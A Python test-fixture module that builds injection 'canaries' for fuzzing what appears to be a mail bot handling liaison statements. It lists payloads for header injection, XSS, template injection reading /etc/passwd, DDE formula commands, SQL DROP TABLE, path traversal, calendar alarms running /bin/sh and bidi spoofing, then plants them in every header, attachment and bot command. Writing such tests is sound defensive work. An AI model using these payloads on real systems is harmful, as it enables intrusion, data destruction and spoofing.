"""Canaries: a payload for every sink, in every field of a letter that a stranger can fill."""

from __future__ import annotations

import base64

PAYLOADS = {
    "header": "x\r\nBcc: victim@evil.example\r\nX-Canary: 1",
    "html": '"><script src=http://127.0.0.1:9/canary></script><img src=x onerror=alert(1)><b>',
    "style": "</title><style>@import url(http://127.0.0.1:9/canary)</style><iframe src=//evil.example>",
    "template": "x{{7*7}}x{% include '/etc/passwd' %}${7*7}",
    "formula": '=HYPERLINK("http://evil.example","x")',
    "command": "@SUM(1+1)*cmd|' /C calc'!A0",
    "calendar": "x\r\nEND:VEVENT\r\nBEGIN:VALARM\r\nACTION:PROCEDURE\r\nATTACH:file:///bin/sh",
    "terminal": "x\x1b]0;owned\x07\x1b[2J\x9b31m\x08\x08",
    "log": "x\n2026-03-02T09:00:00Z info: letter 1: routed as addressed",
    "path": "../../../../tmp/canary\0.txt",
    "sql": "x'); DROP TABLE letter; --",
    "bidi": "x\u202egnp.exe\u2066\u200b\u2028y",
    "nul": "x\0y",
    "surrogate": "x\ud800y",
}

UNSEEN = {chr(code) for code in (*range(0x0A), *range(0x0B, 0x20), *range(0x7F, 0xA0), 0x200B, 0x2028, 0x2029, *range(0x202A, 0x202F), *range(0x2066, 0x206A))}  # fmt: skip
"""What steers terminals, or makes text look like another one, and has no place in any output of ours."""


def encoded(payload: str) -> str:
    """The payload in a header field as encoded words, which hide its line ends from the mail servers."""
    data = base64.b64encode(payload.encode("utf-8", "surrogatepass")).decode()
    return f"=?utf-8?b?{data}?="


def statement(
    number: int,
    name: str,
    payload: str,
    *,
    sender: str = "tsbsg15@itu.int",
    body: str = "ITU-T Study Group 15",
    group: str = "CCAMP",
) -> bytes:
    """A statement of a peer, or of anybody, to a group with a payload in every field of its header, text and file."""
    word, flat = encoded(payload), " ".join(payload.split())
    fields = {
        "From": f"{word} <{sender}>",
        "To": f"{word} <liaison@bot.example>",
        "Cc": f"{word} <other@peer.example>",
        "Reply-To": f"{word} <reply@peer.example>",
        "Subject": f"{word} LS on {name}",
        "Message-ID": f"<{number}.{name}@peer.example>",
        "References": f"<{number}@peer.example> {word}",
        "List-Id": word,
        "Organization": word,
        "X-Mailer": word,
        "Date": "Mon, 02 Mar 2026 08:00:00 +0000",
        "MIME-Version": "1.0",
        "Content-Type": 'multipart/mixed; boundary="b"',
    }
    text = (
        f"Source: {body} {flat}\nTitle: {flat} LS on {name} {number}\nRef.: SG15-LS{number} {flat}\n"
        f"For action to: IETF {group} WG, {flat}\nDeadline: 1 June 2026\nContact: {flat}\nEmail: ada@optics.example {flat}\n\n"
        f"{flat}\n{payload}\nPlease review.\n"
    )
    files = "".join(
        f'--b\r\nContent-Type: {kind}; name="{word}"\r\nContent-Transfer-Encoding: base64\r\n'
        f"Content-Disposition: attachment; filename*=utf-8''{_percent(payload)}\r\n\r\n{_b64(data)}\r\n"
        for kind, data in (
            ("application/octet-stream", text),
            ("text/html", f"<p>{payload}</p>"),
            ("image/svg+xml", f"<svg><script>{payload}</script></svg>"),
        )
    )
    head = "".join(f"{field}: {value}\r\n" for field, value in fields.items())
    body = (
        f"--b\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n{_b64(text)}\r\n"
    )
    return f"{head}\r\n{body}{files}--b--\r\n".encode()


def commands(payload: str) -> list[str]:
    """Lines that put a payload into every value that a command takes."""
    flat = " ".join(payload.split()).replace("\0", "")
    return [f"LS-1 note {flat}", f"LS-1 private {flat}", f"LS-1 set title {flat}", f"LS-1 set ref {flat}",
            f"LS-1 set contact {flat}@x.example", f"LS-1 deadline 1 June 2026 because {flat}",
            f"LS-1 assign to quentin because {flat}", f"LS-1 link {flat}", f"list {flat}", flat]  # fmt: skip


def _b64(text: str) -> str:
    return base64.b64encode(text.encode("utf-8", "surrogatepass")).decode()


def _percent(text: str) -> str:
    return "".join(f"%{byte:02x}" for byte in text.encode("utf-8", "surrogatepass"))
